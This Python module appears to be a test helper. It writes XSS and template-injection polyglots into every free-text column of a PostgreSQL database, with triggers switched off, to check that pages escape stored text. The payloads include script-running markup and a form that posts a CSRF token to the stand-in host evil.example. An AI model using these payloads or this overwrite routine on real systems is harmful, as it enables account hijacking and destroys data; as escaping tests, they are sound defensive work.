"""Texts that want to become markup or script wherever a page might forget to escape them, and where they are put."""

from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import psycopg
from psycopg import sql

MARK = "injected"
"""The class that any markup of theirs has; no page of ours uses it."""
POLYGLOTS = (
    f'<img src=x class={MARK} onerror=executed()>',
    f'"><script class={MARK}>executed()</script>',
    f"'><svg class={MARK} onload=executed()>",
    f'</title><b class={MARK}>x</b>',
    f'</textarea><b class={MARK}>x</b>',
    f'</script><script class={MARK}>executed()</script>',
    f'--><b class={MARK}>x</b>',
    f']]><b class={MARK}>x</b>',
    "javascript:executed()//",
    "data:text/html,<script>executed()</script>",
    f'" autofocus onfocus=executed() class="{MARK}',
    f"' style=position:fixed class='{MARK}",
    f'{{{{7*7}}}}<b class={MARK}>${{7*7}}</b>',
    f'<a class={MARK} href="javascript:executed()">x</a>',
    f'<iframe class={MARK} srcdoc="<script>parent.executed()</script>">',
    f'<math class={MARK}><mtext><img src=x onerror=executed()>',
    f'<form class={MARK}><input name=csrf_token><button formaction=//evil.example>',
    f'<div class={MARK} hx-get="/account" hx-trigger="load">x</div>',
    f'<b class={MARK} data-module="../evil">\u202ex</b>',
    f'%3Cb%20class%3D{MARK}%3E&lt;b class={MARK}&gt;\\u003cb class={MARK}\\u003e',
)  # fmt: skip
ALL = " ".join(POLYGLOTS)
OF_THE_PROGRAM = frozenset({
    "action", "actor_kind", "alembic_version", "breaker", "check", "code", "computed", "domain", "event",
    "fingerprint", "forced", "format", "guard", "hash", "idem", "kind", "level", "list_hash", "locale", "method",
    "mint", "object_type", "phase", "purpose", "result", "role", "route", "rule", "scopes", "section", "service",
    "severity", "sha256", "side", "state", "status", "step", "subject_kind", "symbol_skeleton", "tie_policy",
    "timezone", "verdict", "version", "version_num", "wallet", "whose_fault", "zone",
})  # fmt: skip
"""Columns whose words the program chooses itself: nobody types them."""
TEXTS = """
SELECT c.table_name, c.column_name FROM information_schema.columns c
JOIN information_schema.tables t USING (table_schema, table_name)
WHERE c.table_schema = 'public' AND t.table_type = 'BASE TABLE' AND c.data_type = 'text' AND c.is_generated = 'NEVER'
ORDER BY 1, 2
"""


@dataclass
class Poisoned:
    """Columns by what became of them; `refused` are those whose constraints admit no polyglot at all."""

    taken: list[str] = field(default_factory=list)
    refused: list[str] = field(default_factory=list)


def poison(address: str, round_: int | None) -> Poisoned:
    """Writes a polyglot into every row of every column that people or programs fill, past all triggers.

    Without a round: all of them in one text, where it fits; else the one whose turn it is.
    """
    done = Poisoned()
    with psycopg.connect(address, autocommit=True) as server:
        server.execute("SET session_replication_role = replica")
        for number, (table, column) in enumerate(columns(server)):
            turn = POLYGLOTS[((round_ or 0) + number) % len(POLYGLOTS) :] + POLYGLOTS
            texts = turn if round_ is not None else (ALL, *turn)
            taken = any(put(server, table, column, text) for text in texts)
            (done.taken if taken else done.refused).append(f"{table}.{column}")
    return done


def columns(server: "psycopg.Connection[Any]") -> Iterator[tuple[str, str]]:
    for table, column in server.execute(TEXTS).fetchall():
        if column not in OF_THE_PROGRAM and not column.endswith(("_hash", "_state", "_kind")):
            yield table, column


def put(server: "psycopg.Connection[Any]", table: str, column: str, text: str) -> bool:
    names = {"table": sql.Identifier(table), "column": sql.Identifier(column)}
    change = sql.SQL("UPDATE {table} SET {column} = %s WHERE {column} IS NOT NULL").format(**names)
    one = sql.SQL("UPDATE {table} SET {column} = %s || ctid::text WHERE {column} IS NOT NULL").format(**names)
    for statement in (change, one):  # the second where no two rows may be alike
        try:
            server.execute(statement, (text,))
        except psycopg.IntegrityError:
            continue
        return True
    return False
